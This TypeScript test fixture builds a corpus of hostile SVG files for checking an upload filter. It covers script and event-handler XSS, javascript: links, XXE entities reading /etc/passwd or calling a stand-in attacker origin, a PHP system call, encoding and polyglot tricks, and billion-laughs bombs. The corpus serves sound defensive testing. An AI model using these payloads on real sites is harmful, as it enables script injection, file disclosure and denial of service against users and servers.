import { gzipSync } from "node:zlib";
import { svg } from "./images.ts";

export interface HostileSvg {
  readonly name: string;
  readonly bytes: Buffer;
  /** The upload may accept it: nothing in it can act. */
  readonly harmless?: true;
  /** It only costs time; response headers cannot prevent that. */
  readonly bomb?: true;
}

/** A script that leaves traces in four places. It is one expression, so it also fits into lists of values. */
const RUN = "window.__ran=1,document.title='ran',console.log('ran'),alert('ran')";

const XHTML = "http://www.w3.org/1999/xhtml";
const base64 = (text: string) => Buffer.from(text).toString("base64");
const big = 'width="400" height="300"';

/** Drawings that try to run scripts, or to call `elsewhere`, the attacker's origin. */
export function hostileSvgs(elsewhere: string): readonly HostileSvg[] {
  const run = `${RUN},new Image().src='${elsewhere}/called'`;
  const script = svg(`<script>${run}</script>`);
  const page = `<html xmlns='${XHTML}'><script>${run}</script></html>`;
  const far = `${elsewhere}/file`;

  const drawings: Readonly<Record<string, string | Buffer>> = {
    "a script": script,
    "a script in CDATA": svg(`<script><![CDATA[${run}]]></script>`),
    "a script behind comments": svg(`<!-- --><scr<!-- -->ipt>${run}</scr<!-- -->ipt>`),
    "a script from elsewhere": svg(`<script href="${far}.js"/>`),
    "a script from elsewhere by the old link": svg(`<script xlink:href="${far}.js"/>`),
    "a script as data": svg(`<script href="data:text/javascript;base64,${base64(run)}"/>`),
    "a module": svg(`<script type="module">${run}</script>`),
    "a script by a prefix": `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${run}</s:script></s:svg>`,
    "a script of XHTML": svg(`<h:script xmlns:h="${XHTML}">${run}</h:script>`),
    "a script of XHTML in capitals": svg(`<SCRIPT xmlns="${XHTML}">${run}</SCRIPT>`),
    "a namespace in character references": svg(
      `<x:script xmlns:x="http://www.w3.org/1999/&#120;html">${run}</x:script>`,
    ),
    "a namespace by an entity": `<!DOCTYPE svg [<!ENTITY n "${XHTML}">]>${svg(`<x:script xmlns:x="&n;">${run}</x:script>`)}`,
    "a script by an entity": `<!DOCTYPE svg [<!ENTITY s "<script xmlns='http://www.w3.org/2000/svg'>${run.replaceAll("'", "&#39;")}</script>">]>${svg("&s;")}`,
    "a handler by a declared attribute": `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run}">]>${svg("")}`,
    "a handler of the root": svg("", `onload="${run}"`),
    "a handler of an image that fails": svg(`<image href="data:image/png," onerror="${run}"/>`),
    "a handler of a click": svg(`<rect ${big} onclick="${run}"/>`),
    "a handler of the pointer": svg(
      `<rect ${big} onmouseover="${run}" onpointermove="${run}" onmousemove="${run}"/>`,
    ),
    "a handler of the focus": svg(
      `<g tabindex="1" onfocus="${run}" autofocus="autofocus" onfocusin="${run}"><rect ${big}/></g>`,
    ),
    "a handler that begins with an animation": svg(
      `<rect ${big}><animate attributeName="x" dur="1s" onbegin="${run}" onend="${run}" onrepeat="${run}"/></rect>`,
    ),
    "a handler of an animation in styles": svg(
      `<style>@keyframes a{to{opacity:0}} rect{animation:a .1s}</style><rect ${big} onanimationstart="${run}" onanimationend="${run}"/>`,
    ),
    "a handler of a transition": svg(
      `<style>rect{transition:opacity .1s}rect:hover{opacity:0}</style><rect ${big} ontransitionend="${run}"/>`,
    ),
    "a handler that an animation sets": svg(
      `<rect ${big}><set attributeName="onmouseover" to="${run}"/></rect>`,
    ),
    "a handler of a wheel, a resize and a hash": svg(
      `<rect ${big}/>`,
      `onwheel="${run}" onresize="${run}" onhashchange="${run}" onunload="${run}"`,
    ),
    "the handlers of SVG Tiny": svg(
      `<handler type="application/ecmascript" ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events">${run}</handler>`,
    ),
    "a listener of XML events": svg(
      `<ev:listener event="load" handler="#h" observer="r" xmlns:ev="http://www.w3.org/2001/xml-events"/><script id="h">${run}</script>`,
    ),
    "a link to a script": svg(`<a href="javascript:${run}"><rect ${big}/></a>`),
    "an old link to a script": svg(`<a xlink:href="javascript:${run}"><rect ${big}/></a>`),
    "a link to a script with blanks": svg(
      `<a href="&#1;java&#9;scr&#10;ipt:${run}"><rect ${big}/></a>`,
    ),
    "a link that an animation turns to a script": svg(
      `<a><animate attributeName="href" values="javascript:${run}" dur="1s" fill="freeze"/><rect ${big}/></a>`,
    ),
    "a link that a set turns to a script": svg(
      `<a><set attributeName="xlink:href" to="javascript:${run}"/><rect ${big}/></a>`,
    ),
    "a link that is animated behind a decoy": svg(
      `<a><set x:attributeName="fill" xmlns:x="urn:x" attributeName="href" to="javascript:${run}"/><rect ${big}/></a>`,
    ),
    "a link to a page as data": svg(
      `<a href="data:text/html;base64,${base64(page)}" target="_blank"><rect ${big}/></a>`,
    ),
    "a link that opens a window": svg(`<a href="${far}.html" target="_blank"><rect ${big}/></a>`),
    "a use of data": svg(
      `<use href="data:image/svg+xml;base64,${base64(svg(`<g id="x"><image href="x" onerror="${run}"/></g>`))}#x"/>`,
    ),
    "a use from elsewhere": svg(`<use href="${far}.svg#x"/>`),
    "a use of a script": svg(`<use href="javascript:${run}"/>`),
    "an image of a drawing as data": svg(
      `<image ${big} href="data:image/svg+xml;base64,${base64(script)}"/>`,
    ),
    "an image of a page as data": svg(
      `<image ${big} href="data:text/html;base64,${base64(page)}"/>`,
    ),
    "an image from elsewhere": svg(`<image ${big} href="${far}.png"/>`),
    "an image from the server itself": svg(`<image ${big} href="/api/quotes/list"/>`),
    "an image that an animation brings": svg(
      `<image ${big}><set attributeName="href" to="${far}.png"/></image>`,
    ),
    "a filter's image from elsewhere": svg(
      `<filter id="f"><feImage href="${far}.png"/></filter><rect ${big} filter="url(#f)"/>`,
    ),
    "a filter's image of a drawing": svg(
      `<filter id="f"><feImage href="data:image/svg+xml;base64,${base64(script)}"/></filter><rect ${big} filter="url(#f)"/>`,
    ),
    "a filter from elsewhere": svg(`<rect ${big} filter="url(${far}.svg#f)"/>`),
    "a mask from elsewhere in styles": svg(`<rect ${big} style="mask-image:url(${far}.png)"/>`),
    "a base address elsewhere": svg(`<image ${big} href="file.png"/>`, `xml:base="${elsewhere}/"`),
    "HTML in a foreign object": svg(
      `<foreignObject ${big}><body xmlns="${XHTML}" onload="${run}"><img src="x" onerror="${run}"/></body></foreignObject>`,
    ),
    "a frame in a foreign object": svg(
      `<foreignObject ${big}><iframe xmlns="${XHTML}" src="javascript:${run}"/></foreignObject>`,
    ),
    "a frame of a page in a foreign object": svg(
      `<foreignObject ${big}><iframe xmlns="${XHTML}" srcdoc="&lt;script>top.__ran=1&lt;/script>&lt;img src=${far}.png>"/></foreignObject>`,
    ),
    "an object in a foreign object": svg(
      `<foreignObject ${big}><object xmlns="${XHTML}" data="data:text/html;base64,${base64(page)}"/></foreignObject>`,
    ),
    "an embed in a foreign object": svg(
      `<foreignObject ${big}><embed xmlns="${XHTML}" src="${far}.html"/></foreignObject>`,
    ),
    "a form in a foreign object": svg(
      `<foreignObject ${big}><form xmlns="${XHTML}" action="${far}.html"><button style="width:400px;height:300px" autofocus="">Go on</button></form></foreignObject>`,
    ),
    "a refresh in a foreign object": svg(
      `<foreignObject ${big}><meta xmlns="${XHTML}" http-equiv="refresh" content="0;url=${far}.html"/></foreignObject>`,
    ),
    "a style sheet in a foreign object": svg(
      `<foreignObject ${big}><link xmlns="${XHTML}" rel="stylesheet" href="${far}.css"/></foreignObject>`,
    ),
    "an XHTML element without a foreign object": svg(
      `<h:img xmlns:h="${XHTML}" src="${far}.png" onerror="${run}"/>`,
    ),
    "a prefetch": svg(`<h:link xmlns:h="${XHTML}" rel="preload" as="image" href="${far}.png"/>`),
    "a template with a shadow": svg(
      `<h:div xmlns:h="${XHTML}"><h:template shadowrootmode="open"><h:script>${run}</h:script><h:slot/></h:template></h:div>`,
    ),
    "a noscript": svg(
      `<h:noscript xmlns:h="${XHTML}"><h:img src="${far}.png" onerror="${run}"/></h:noscript>`,
    ),
    "a video": svg(
      `<h:video xmlns:h="${XHTML}" src="${far}.mp4" poster="${far}.png" autoplay=""/>`,
    ),
    MathML: svg(
      `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${run}"><mtext>x</mtext></math>`,
    ),
    "a style sheet that imports": svg(`<style>@import url("${far}.css");</style>`),
    "a style sheet that imports in pieces": svg(`<style>@imp<!-- -->ort "${far}.css";</style>`),
    "styles with a picture": svg(
      `<style>svg{background:url(${far}.png)} rect{cursor:url(${far}.cur),auto}</style><rect ${big}/>`,
    ),
    "styles with a picture in escapes": svg(
      `<style>svg{background:\\75\\72\\6c(${far}.png)}</style><rect ${big}/>`,
    ),
    "styles with a picture by its set": svg(
      `<style>svg{background:image-set("${far}.png" 1x)}</style><rect ${big}/>`,
    ),
    "an old expression": svg(
      `<rect ${big} style="width:expression(${run});-moz-binding:url(${far}.xml#x);behavior:url(${far}.htc)"/>`,
    ),
    "a font from elsewhere": svg(
      `<style>@font-face{font-family:f;src:url(${far}.woff2)} text{font-family:f}</style><text y="20">a</text>`,
    ),
    "a font face of SVG": svg(
      `<font-face font-family="f"><font-face-src><font-face-uri href="${far}.svg#f"/></font-face-src></font-face><text y="20" font-family="f">a</text>`,
    ),
    "a color profile from elsewhere": svg(`<color-profile name="p" xlink:href="${far}.icc"/>`),
    "a style sheet by an instruction": `<?xml-stylesheet type="text/css" href="${far}.css"?>${svg("")}`,
    "a transformation": `<?xml-stylesheet type="text/xsl" href="${far}.xsl"?>${svg("")}`,
    "a transformation of its own": `<?xml-stylesheet type="text/xsl" href="#t"?><svg xmlns="http://www.w3.org/2000/svg"><xsl:stylesheet id="t" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="${XHTML}"><script>${run}</script></html></xsl:template></xsl:stylesheet></svg>`,
    "a transformation as data": `<?xml-stylesheet type="text/xsl" href="data:text/xml;base64,${base64(
      `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="${XHTML}"><script>${run}</script></html></xsl:template></xsl:stylesheet>`,
    )}"?>${svg("")}`,
    "an instruction of PHP": svg(
      `<?php system("id") ?><?import namespace="t" implementation="${far}.htc"?>`,
    ),
    "a file by an entity": `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg("<text>&x;</text>")}`,
    "a call by an entity": `<!DOCTYPE svg [<!ENTITY x SYSTEM "${far}.xml">]>${svg("<text>&x;</text>")}`,
    "a call by a parameter entity": `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${far}.dtd"> %x;]>${svg("")}`,
    "an inclusion": svg(
      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${far}.xml" parse="text"/><script>${run}</script>`,
    ),
    "UTF-16 with its mark": Buffer.from(`\ufeff${script}`, "utf16le"),
    "UTF-16 without its mark": Buffer.from(script, "utf16le"),
    "UTF-7 by name": `<?xml version="1.0" encoding="UTF-7"?>${svg("+ADw-script+AD4-alert(1)+ADw-/script+AD4-")}`,
    "an encoding that hides it": Buffer.concat([
      Buffer.from('<?xml version="1.0" encoding="ISO-2022-JP"?>'),
      Buffer.from(svg(`<text>\u001b$B</text><script>${run}</script><text>\u001b(B</text>`)),
    ]),
    "its mark twice": `\ufeff\ufeff${script}`,
    "its mark once": `\ufeff${script}`,
    "a gzipped one": gzipSync(script),
    "a page that is also a drawing": `<!--<svg xmlns="http://www.w3.org/2000/svg">--><html><script>${run}</script><svg></svg></html>`,
    "a PDF that is also a drawing": `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n${script}`,
    "a script that is also a drawing": `/*${script}*/${run}`,
    "a GIF that is also a drawing": Buffer.concat([Buffer.from("GIF89a/*"), Buffer.from(script)]),
    "a drawing after blank lines": `\n\n\n${script}`,
    "a script in carelessly written HTML": `<svg><p><style><g title="</style><img src=x onerror=${run}>">`,
  };

  return [
    ...Object.entries(drawings).map(([name, bytes]) => ({ name, bytes: Buffer.from(bytes) })),
    ...svgBombs(),
    ...harmless(elsewhere),
  ];
}

/** Drawings that look hostile but cannot act. */
function harmless(elsewhere: string): readonly HostileSvg[] {
  const each = {
    "a document type from elsewhere": `<!DOCTYPE svg SYSTEM "${elsewhere}/file.dtd">${svg("<rect/>")}`,
    "markup in its words": svg(
      "<title>&lt;script>alert('ran')&lt;/script></title><text y='20'>&lt;img src=x onerror=alert(1)></text>",
    ),
    "markup in a comment": svg("<!-- <script>alert('ran')</script> -->"),
    "markup in names": svg(
      `<g id="x" class="&lt;script>alert('ran')&lt;/script>"><rect ${big}/></g>`,
    ),
    "a view from far away": `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" viewBox="0 0 1e9 1e9"><rect width="1e9" height="1e9"/></svg>`,
  };
  return Object.entries(each).map(([name, text]) => ({
    name,
    bytes: Buffer.from(text),
    harmless: true,
  }));
}

const levels = <T>(of: (level: number) => T) => Array.from({ length: 9 }, (_, level) => of(level));

const ENTITIES = levels((level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join(
  "",
);

/** Small drawings that would cost a reader minutes, or all of its memory. */
function svgBombs(): readonly HostileSvg[] {
  const bombs = {
    "a billion laughs": `<!DOCTYPE svg [<!ENTITY e0 "ha">${ENTITIES}]>${svg("<text>&e9;</text>")}`,
    "a quadratic blowup": `<!DOCTYPE svg [<!ENTITY a "${"a".repeat(50_000)}">]>${svg(`<text>${"&a;".repeat(20_000)}</text>`)}`,
    "uses of uses": svg(
      `<rect id="u0" width="9" height="9"/>${levels(
        (level) => `<g id="u${level + 1}">${`<use href="#u${level}"/>`.repeat(10)}</g>`,
      ).join("")}`,
    ),
    "patterns of patterns": svg(
      `${levels(
        (level) =>
          `<pattern id="p${level + 1}" width="1" height="1">${`<rect width="9" height="9" fill="url(#p${level})"/>`.repeat(10)}</pattern>`,
      ).join("")}<rect width="40" height="30" fill="url(#p9)"/>`,
    ),
    "markers of markers": svg(
      '<marker id="m"><path d="M0 0h9v9z" marker-mid="url(#n)"/></marker><marker id="n"><path d="M0 0h9v9z" marker-mid="url(#m)"/></marker><path d="M0 0h9v9z" marker-mid="url(#m)"/>',
    ),
    "masks of masks": svg(
      '<mask id="a"><rect width="9" height="9" mask="url(#b)"/></mask><mask id="b"><rect width="9" height="9" mask="url(#a)"/></mask><rect width="9" height="9" mask="url(#a)"/>',
    ),
    "elements without end": svg(`${"<g>".repeat(100_000)}${"</g>".repeat(100_000)}`),
    "a canvas of a billion pixels":
      '<svg xmlns="http://www.w3.org/2000/svg" width="50000" height="50000"><rect width="50000" height="50000"/></svg>',
  };
  return Object.entries(bombs).map(([name, text]) => ({
    name,
    bytes: Buffer.from(text),
    bomb: true,
  }));
}
